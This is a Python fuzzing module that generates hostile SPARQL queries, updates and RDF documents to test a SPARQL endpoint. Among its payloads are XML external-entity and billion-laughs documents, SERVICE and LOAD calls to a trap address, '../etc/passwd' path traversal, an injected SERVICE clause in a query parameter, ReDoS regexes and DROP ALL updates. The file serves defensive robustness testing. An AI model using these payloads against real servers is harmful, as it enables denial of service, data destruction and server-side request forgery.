"""Hostile queries, updates and documents: the same number always gives the same text.

Each grammar is one way to hurt whoever parses or runs a text. Sizes go from nothing to a megabyte,
most of them small, because a parser that breaks mostly breaks early.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final
from urllib.parse import quote, urlencode

MEGABYTE: Final = 1_000_000
QUERY: Final = "application/sparql-query"
UPDATE: Final = "application/sparql-update"
FORM: Final = "application/x-www-form-urlencoded"
_TYPES: Final = {
    "ttl": "text/turtle",
    "nt": "application/n-triples",
    "rdf": "application/rdf+xml",
    "jsonld": "application/ld+json",
    "trig": "application/trig",
    "nq": "application/n-quads",
}
_RDF: Final = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
_XSD: Final = "http://www.w3.org/2001/XMLSchema#"
_ASK: Final = "ASK {} #"


@dataclass(frozen=True, slots=True)
class Attack:
    """One request. `is_write` is for a server that takes writes."""

    grammar: str
    method: str
    target: str
    body: bytes = b""
    content_type: str | None = None
    accept: str = "*/*"
    is_write: bool = False


def attack(seed: int, number: int, trap: str) -> Attack:
    """Return the attack of a number; `trap` is an address that nothing may connect to."""
    chance = random.Random(f"{seed} {number}")
    name = chance.choices(list(_GRAMMARS), [weight for _, weight in _GRAMMARS.values()])[0]
    return _GRAMMARS[name][0](_Maker(chance, name, trap))


class _Maker:
    """What a grammar makes its text with."""

    def __init__(self, chance: random.Random, grammar: str, trap: str) -> None:
        self.chance = chance
        self.grammar = grammar
        self.trap = trap

    def size(self, most: int = MEGABYTE) -> int:
        """Return a number of characters, small ones far more often."""
        return int(10 ** self.chance.uniform(0.5, len(str(most)) - 1))

    def pick(self, *options: str) -> str:
        return self.chance.choice(options)

    def repeated(self, text: str, most: int = MEGABYTE) -> str:
        return text * max(1, self.size(most) // max(1, len(text)))

    def nested(self, opening: str, inside: str, closing: str) -> str:
        """Nest, sometimes without an end, or with one too many."""
        depth = max(1, self.size() // (len(opening) + len(closing)))
        ends = self.chance.choice([depth, depth, depth, 0, depth - 1, depth + 1])
        return opening * depth + inside + closing * ends

    def query(self, text: str) -> Attack:
        accept = self.pick("*/*", "text/csv", "application/sparql-results+xml", "text/html")
        data = text.encode("utf-8", "surrogatepass")
        way = self.chance.random()
        if way < 0.15 and len(data) < 50_000:
            return Attack(self.grammar, "GET", f"/sparql?query={quote(data)}", accept=accept)
        if way < 0.5:
            form = urlencode({"query": data}).encode()
            return Attack(self.grammar, "POST", "/sparql", form, FORM, accept)
        return Attack(self.grammar, "POST", "/sparql", data, QUERY, accept)

    def update(self, text: str) -> Attack:
        data = text.encode("utf-8", "surrogatepass")
        return Attack(self.grammar, "POST", "/sparql", data, UPDATE, is_write=True)

    def document(self, format: str, content: str | bytes) -> Attack:
        data = content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass")
        target = self.pick("/graphs?default", "/graphs?graph=http%3A%2F%2Fexample.org%2Fg")
        method = self.pick("PUT", "POST")
        return Attack(self.grammar, method, target, data, _TYPES[format], is_write=True)


def _brackets(make: _Maker) -> Attack:
    opening, inside, closing = make.chance.choice(
        [
            ("{", "", "}"),
            ("{ ?s ?p ?o . ", "", "}"),
            ("{{} UNION ", "{}", "}"),
            ("OPTIONAL {", "?s ?p ?o", "}"),
            ("MINUS { ?s ?p ?o ", "", "}"),
            ("GRAPH ?g {", "", "}"),
            ("FILTER EXISTS { ?s ?p ?o ", "", "}"),
            ("FILTER NOT EXISTS { ", "?s ?p ?o ", "}"),
            ("{ SELECT * {", "?s ?p ?o", "}}"),
            ("?s ?p [ ?p ", "?o", "]"),
            ("?s ?p (", "1", ")"),
            ("<< ", "?s ?p ?o", " >>"),
            ("<<( ", "?s ?p ?o", " )>>"),
        ]
    )
    return make.query("SELECT * { " + make.nested(opening, inside, closing) + " }")


def _expressions(make: _Maker) -> Attack:
    opening, inside, closing = make.chance.choice(
        [
            ("(", "1", ")"),
            ("!", "true", ""),
            ("-", "1", ""),
            ("STR(", "?s", ")"),
            ("IF(true,", "1", ",2)"),
            ("COALESCE(", "1", ")"),
            ("1 + (", "1", ")"),
            ("NOT EXISTS { FILTER(", "1", ") }"),
            ("1 IN (", "1", ")"),
        ]
    )
    expression = make.nested(opening, inside, closing)
    place = make.pick("SELECT ({} AS ?x) {{}}", "ASK {{ FILTER({}) }}", "ASK {{}} HAVING({})")
    return make.query(place.format(expression))


def _chains(make: _Maker) -> Attack:
    link = make.pick(*(f" {sign} 1" for sign in ("+", "*", "&&", "||", "=", "<", "- -")), ", 1")
    chain = "1" + make.repeated(link)
    text = f"ASK {{ FILTER({'1 IN (' + chain + ')' if ',' in link else chain}) }}"
    return make.query(text)


def _paths(make: _Maker) -> Attack:
    step = make.pick(
        "/<a:b>", "|<a:b>", "/<a:b>*", "/^<a:b>", "/!(<a:b>|^<a:c>)", "/(<a:b>+|<a:c>?)"
    )
    deep = make.nested("(", "<a:b>", ")" + make.pick("*", "+", "?", ""))
    path = make.pick("<a:a>" + make.repeated(step, 100_000), deep)
    if make.chance.random() < 0.3:
        path = "(" + "|".join(f"!<a:{n}>" for n in range(make.size(1000))) + ")*"
    return make.query(f"SELECT * {{ ?s {path} ?o . ?o {path[:2000]} ?x }}")


def _products(make: _Maker) -> Attack:
    patterns = "".join(f" ?a{n} ?b{n} ?c{n} ." for n in range(make.chance.randint(3, 14)))
    head, tail = make.chance.choice(
        [
            ("SELECT *", ""),
            ("SELECT (COUNT(*) AS ?n)", ""),
            ("SELECT DISTINCT *", ""),
            ("SELECT *", "ORDER BY DESC(?c1) ?a2"),
            ("SELECT (GROUP_CONCAT(?c0) AS ?all)", ""),
            ("CONSTRUCT { ?a0 ?b1 ?c2 }", ""),
            ("SELECT (COUNT(DISTINCT ?c2) AS ?n)", "GROUP BY ?a0 ?a1"),
            ("ASK", ""),
        ]
    )
    last = make.pick("", " FILTER(?a0 = ?c1 && ?a1 = ?c2)", " FILTER(RAND() > 2)")
    return make.query(f"{head} {{{patterns}{last} }} {tail}")


def _doublings(make: _Maker) -> Attack:
    step = make.pick(
        "CONCAT({0}, {0})",
        'REPLACE({0}, "(.)", "$1$1$1$1")',
        "CONCAT(STR({0}), ENCODE_FOR_URI({0}), {0})",
        "CONCAT(UCASE({0}), LCASE({0}))",
    )
    count = make.chance.randint(5, 45)
    binds = "".join(f" BIND({step.format(f'?a{n}')} AS ?a{n + 1})" for n in range(count))
    return make.query(f"SELECT ?a{count} {{ BIND('0123456789ß' AS ?a0){binds} }}")


def _values(make: _Maker) -> Attack:
    number = make.size(100_000)
    row = make.pick("1", "UNDEF", "'x'", "<a:b>")
    columns = make.chance.randint(1, 6)
    if columns == 1:
        table = f"VALUES ?a {{ {' '.join([row] * number)} }}"
    else:
        names = " ".join(f"?a{n}" for n in range(columns))
        one = f"({' '.join([row] * columns)})"
        table = f"VALUES ({names}) {{ {' '.join([one] * (number // columns + 1))} }}"
    several = " ".join(
        f"VALUES ?v{n} {{ {' '.join(map(str, range(200)))} }}"
        for n in range(make.chance.randint(0, 8))
    )
    return make.query(f"SELECT * {{ {table} {several} }}")


def _literals(make: _Maker) -> Attack:
    text = make.pick("a", "\\\\", "é", "\U0001f600", "\\u0022", "''", '\\"', "\n", "\x00", "\ud800")
    quote_ = make.pick('"', "'", '"""', "'''")
    long = make.repeated(text)
    kind = make.pick("integer", "decimal", "dateTime", "duration", "double")
    term = make.chance.choice(
        [
            f"{quote_}{long}{quote_}",
            f"{quote_}{long}",
            make.repeated("9"),
            make.repeated("9") + "e" + make.repeated("9", 1000),
            f"'1'^^<{make.repeated('a:')}>",
            f"'x'@{make.repeated('en-')}x",
            f"<{make.repeated('http://')}>",
            f"_:{make.repeated('b')}",
            f"?{make.repeated('v')}",
            f"'{make.repeated('9', 10_000)}'^^<{_XSD}{kind}> + 1",
        ]
    )
    return make.query(make.pick("SELECT ({} AS ?x) {{}}", "ASK {{ ?s ?p {} }}").format(term))


_WHOLE: Final = """PREFIX a: <http://example.org/> # comment
SELECT DISTINCT ?s (COUNT(?o) AS ?n) FROM NAMED <https://w3id.org/migov/graph/inferred>
WHERE {
  VALUES (?s ?p) { (a:b UNDEF) (UNDEF "x"@en) } OPTIONAL { ?s a:p/a:q*|^a:r ?o FILTER(?o > 1.5e3) }
  { SELECT ?s { ?s !(a:x|^a:y) [ a:z ( 1 2 "\\u00e9" ) ] } }
  UNION { GRAPH ?g { ?s ?p '''x'''^^a:t } }
  BIND(IF(REGEX(STR(?o), "^a+$", "i"), COALESCE(?o, 1), CONCAT("a", 'b')) AS ?x) MINUS { ?s ?p ?x }
} GROUP BY ?s HAVING(COUNT(?o) > 1) ORDER BY DESC(?n) LIMIT 10 OFFSET 1"""


def _damaged(make: _Maker) -> Attack:
    text = list(_WHOLE)
    for _ in range(make.chance.randint(0, 4)):
        at = make.chance.randrange(len(text))
        change = make.pick("drop", "double", "swap", "insert")
        if change == "drop":
            del text[at : at + make.chance.randint(1, 30)]
        elif change == "double":
            text[at:at] = text[at : at + make.chance.randint(1, 60)] * make.chance.randint(1, 40)
        elif change == "swap":
            text[at] = chr(make.chance.randrange(32, 127))
        else:
            text.insert(
                at, make.pick("{", "}", "(", '"', "'", "\\", "<", "#", "\r", "\u2028", "\0")
            )
        if not text:
            text = ["A"]
    if make.chance.random() < 0.5:
        text = text[: make.chance.randrange(len(text) + 1)]
    return make.query("".join(text))


def _bytes(make: _Maker) -> Attack:
    data = make.chance.randbytes(make.size())
    kind = make.chance.random()
    if kind < 0.4:
        return Attack(make.grammar, "POST", "/sparql", data, make.pick(QUERY, FORM, "x/y", ""))
    if kind < 0.6:
        return Attack(make.grammar, "GET", f"/sparql?query={quote(data[:20_000])}")
    if kind < 0.7:
        return make.query(data.decode("latin-1"))
    if kind < 0.8:
        return Attack(make.grammar, "POST", "/sparql", data, UPDATE, is_write=True)
    return make.document(make.chance.choice(list(_TYPES)), data)


def _unicode(make: _Maker) -> Attack:
    codes = [0, 9, 0x85, 0xA0, 0x200B, 0x202E, 0x2028, 0xFEFF, 0xD800, 0xDFFF, 0xFFFE, 0x10FFFF]
    noise = "".join(chr(make.chance.choice(codes)) for _ in range(make.size(2000)))
    word = make.pick("SERVICE", "SELECT", "GRAPH", "FROM")
    hidden = "".join(
        make.pick(letter, f"\\u{ord(letter):04x}", f"\\U{ord(letter):08X}", letter.lower())
        for letter in word
    )
    text = make.chance.choice(
        [
            f"SELECT * {{ {hidden} <{make.trap}> {{ ?s ?p ?o }} }}",
            f"SELECT * {{ ?s ?p '{noise}' }}",
            f"ASK {{ ?{noise} ?p ?o }}",
            f"{noise}ASK {{}}",
            f"ASK {{ <http://example.org/{noise}> ?p ?o }}",
            f"ASK {{ FILTER(?a<?b#c>'''\n) {hidden} <{make.trap}> {{}} #'''\n }}",
            f"ASK {{ FILTER(REGEX('{noise}', '{noise[:200]}')) }}",
        ]
    )
    return make.query(text)


def _reaching(make: _Maker) -> Attack:
    trap = make.trap
    silent = make.pick("", "SILENT ")
    inner = f"SERVICE {silent}<{trap}> {{ ?s ?p ?o }}"
    for _ in range(make.chance.randint(0, 3)):
        inner = make.pick("{{ {} }}", "OPTIONAL {{ {} }}", "FILTER EXISTS {{ {} }}").format(inner)
    document = make.chance.choice(
        [
            ("jsonld", json.dumps({"@context": trap, "@id": "a:a", "name": 1})),
            ("jsonld", json.dumps({"@context": [{"@import": trap}, trap], "@graph": []})),
            ("rdf", f'<!DOCTYPE r SYSTEM "{trap}"><rdf:RDF xmlns:rdf="{_RDF}"/>'),
            (
                "rdf",
                f'<!DOCTYPE r [<!ENTITY e SYSTEM "{trap}"><!ENTITY % p SYSTEM "{trap}"> %p;]>'
                f'<rdf:RDF xmlns:rdf="{_RDF}"><rdf:Description>&e;</rdf:Description></rdf:RDF>',
            ),
            (
                "rdf",
                f'<?xml-stylesheet href="{trap}"?><rdf:RDF xmlns:rdf="{_RDF}" xml:base="{trap}"/>',
            ),
            ("ttl", f"@base <{trap}> . @prefix x: <{trap}#> . <> x:a <{trap}> ; a <> ."),
        ]
    )
    graph = quote(trap, safe="")
    choice = make.chance.randrange(10)
    if choice < 3:
        return make.query(f"SELECT * {{ VALUES ?g {{ <{trap}> }} {inner} }}")
    if choice == 3:
        return make.query(f"SELECT * {make.pick('FROM', 'FROM NAMED')} <{trap}> {{ ?s ?p ?o }}")
    if choice == 4:
        wanted = make.pick("default-graph-uri", "named-graph-uri")
        return Attack(make.grammar, "GET", f"/sparql?query={quote(_ASK)}&{wanted}={graph}")
    if choice == 5:
        return Attack(make.grammar, "GET", f"/graphs?graph={graph}")
    if choice == 6:
        text = make.pick("LOAD {}<{}>", "LOAD {}<{}> INTO GRAPH <a:g>").format(silent, trap)
        return make.update(text)
    if choice == 7:
        return make.update(f"INSERT {{ ?s ?p ?o }} WHERE {{ {inner} }}")
    return make.document(*document)


def _regexes(make: _Maker) -> Attack:
    pattern = make.chance.choice(
        ["(a+)+$", "(a|a)*b", "(.*){50}", "((a{100}){100}){100}", "(?i)" + "x?" * 500, "[" * 500]
    )
    subject = "a" * make.size(100_000)
    call = make.pick("REGEX('{}', '{}')", "REPLACE('{}', '{}', '$0$0')")
    return make.query(f"SELECT ({call.format(subject, pattern)} AS ?x) {{}}")


def _requests(make: _Maker) -> Attack:
    method = make.pick("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "PROPFIND")
    target = make.chance.choice(
        [
            "/sparql?" + "&".join(["query=ASK%20%7B%7D"] * make.chance.randint(1, 50)),
            "/sparql?query=%FF%FE",
            "/sparql?query=ASK%7B%7D&format=" + quote(make.repeated("../", 1000)),
            "/sparql?" + "&".join(f"a{n}=1" for n in range(make.size(3000))),
            "/sparql?default-graph-uri=" + quote(make.repeated("x:", 10_000)),
            "/" + quote(make.repeated("../", 1000), safe="/.") + "etc/passwd",
            "/id/initiative/" + quote("'\"<>{}|\\^`\0", safe=""),
            "/queries/initiatives-of-country?country=" + quote('"} SERVICE <' + make.trap + "> {"),
            "/graphs?graph=" + quote(make.repeated("%", 1000)),
            "/resolve?id=" + quote(make.repeated("http://", 2000), safe=""),
        ]
    )
    accept = make.pick("*/*", "text/html;q=x", ",".join(["a/b;q=0.1"] * 500), "\x7f", "")
    body = make.chance.randbytes(make.size(1000)) if method in ("POST", "PUT", "PATCH") else b""
    return Attack(make.grammar, method, target, body, make.pick(FORM, QUERY, "a" * 300), accept)


def _turtle(make: _Maker) -> Attack:
    format = make.pick("ttl", "trig")
    opening, inside, closing = make.chance.choice(
        [("[ <a:p> ", "1", "]"), ("( ", "1", ")"), ("<< ", "<a:a> <a:b> <a:c>", " >>")]
    )
    text = make.chance.choice(
        [
            "<a:a> <a:p> " + make.nested(opening, inside, closing) + " .",
            "<a:a> <a:p> 1" + make.repeated(" , 1") + " .",
            f'<a:a> <a:p> """{make.repeated("a")}',
            f"@prefix : <{make.repeated('a:')}> . :a :b :c .",
            make.repeated("<a:g> { ") + make.repeated("<a:a> <a:b> <a:c> . "),
            "<a:a> <a:p> 1 . " * make.size(10_000) + "<a:a",
            make.repeated("@prefix a: <a:> . "),
        ]
    )
    return make.document(format, text)


def _xml(make: _Maker) -> Attack:
    levels = make.chance.randint(2, 30)
    entities = '<!ENTITY e0 "0123456789">' + "".join(
        f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(levels)
    )
    head = f'<rdf:RDF xmlns:rdf="{_RDF}" xmlns:a="http://example.org/">'
    thing = "<rdf:Description><a:p>{}</a:p></rdf:Description></rdf:RDF>"
    nested = make.nested("<rdf:Description><a:p>", "", "</a:p></rdf:Description>")
    text = make.chance.choice(
        [
            f"<!DOCTYPE r [{entities}]>{head}{thing.format(f'&e{levels};')}",
            f"<!DOCTYPE r [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>{head}{thing.format('&a;')}",
            f"{head}{nested}</rdf:RDF>",
            head + make.repeated("<a:b>"),
            head[:-1] + " " + " ".join(f'a{n}="1"' for n in range(make.size(20_000))) + "/>",
            f"{head}<rdf:Description><a:p rdf:parseType='Literal'>" + make.repeated("<x>"),
            f"{head}<!--{make.repeated('-')}",
        ]
    )
    return make.document("rdf", text)


def _json(make: _Maker) -> Attack:
    opening, inside, closing = make.chance.choice(
        [("[", "", "]"), ('{"a:a":', "1", "}"), ('{"@list":[', "", "]}"), ('{"@graph":[', "", "]}")]
    )
    nested = make.nested(opening, inside, closing)
    context = make.nested('{"@context":', "{}", "}")
    text = make.chance.choice(
        [
            nested,
            f'{{"@id": "a:a", "a:p": {nested}}}',
            f'{{"@context": {context}, "@id": "a:a"}}',
            json.dumps({"@context": {f"t{n}": f"t{n + 1}:" for n in range(make.size(5000))}}),
            json.dumps({"@context": {"a": "b:", "b": "a:"}, "a:x": 1}),
            f'{{"@id": "{make.repeated("a")}',
            f'{{"a:p": {make.repeated("9")}}}',
            json.dumps({"@context": {"p": {"@id": "a:p", "@context": {"p": None}}}, "p": {"p": 1}}),
        ]
    )
    return make.document("jsonld", text)


def _updates(make: _Maker) -> Attack:
    patterns = "".join(f" ?a{n} ?b{n} ?c{n} ." for n in range(make.chance.randint(2, 12)))
    text = make.chance.choice(
        [
            f"INSERT {{ ?a0 ?b0 ?c1 }} WHERE {{{patterns} }}",
            "INSERT DATA { " + make.repeated("<a:a> <a:p> 1 . ", 200_000) + "}",
            "INSERT DATA { <a:a> <a:p> " + make.nested("[ <a:p> ", "1", "]") + " }",
            make.repeated("INSERT DATA { <a:a> <a:p> 1 } ;", 20_000),
            f"DELETE WHERE {{ {make.nested('GRAPH ?g {', '?s ?p ?o', '}')} }}",
            "WITH <a:g> DELETE { ?s ?p ?o } INSERT { ?o ?p ?s } USING <a:h> WHERE { ?s ?p ?o }",
            "DROP ALL ; CREATE GRAPH <a:g> ; CREATE GRAPH <a:g>",
            "INSERT { <a:a> <a:p> ?x } WHERE { "
            + "".join(f" BIND(CONCAT(?a{n}, ?a{n}) AS ?a{n + 1})" for n in range(40))
            + " BIND(?a40 AS ?x) }",
            f"COPY <{make.repeated('a:')}> TO DEFAULT",
            _WHOLE[: make.chance.randrange(len(_WHOLE))],
        ]
    )
    return make.update(text)


_GRAMMARS: Final[dict[str, tuple[Callable[[_Maker], Attack], float]]] = {
    "brackets": (_brackets, 3),
    "expressions": (_expressions, 2),
    "chains": (_chains, 2),
    "paths": (_paths, 1),
    "products": (_products, 1),
    "doublings": (_doublings, 1),
    "values": (_values, 1),
    "literals": (_literals, 3),
    "damaged": (_damaged, 5),
    "bytes": (_bytes, 3),
    "unicode": (_unicode, 3),
    "reaching": (_reaching, 3),
    "regexes": (_regexes, 1),
    "requests": (_requests, 4),
    "turtle": (_turtle, 1),
    "xml": (_xml, 1),
    "json": (_json, 1),
    "updates": (_updates, 1),
}
"""How each text is made, and how often."""

GRAMMARS: Final = tuple(_GRAMMARS)
